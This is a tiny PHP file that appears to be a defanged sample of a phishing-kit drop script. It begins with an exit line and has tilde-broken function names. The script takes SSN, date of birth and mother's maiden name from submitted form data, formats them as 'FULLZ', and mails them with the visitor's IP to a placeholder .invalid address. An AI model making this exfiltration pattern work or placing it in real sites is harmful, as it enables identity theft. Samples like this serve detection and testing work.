<?php exit; ?>
<?php
function marker_line($a) { return implode(' : ', array($a['ssn'], $a['dob'], $a['mmn'])); }
$to = 'marker' . '@' . 'marker.invalid'; $sub = 'FULLZ | ' . getenv('REMOTE_ADDR'); @mai~l($to, $sub, marker_line($_R~EQUEST), 'From: MARKER');
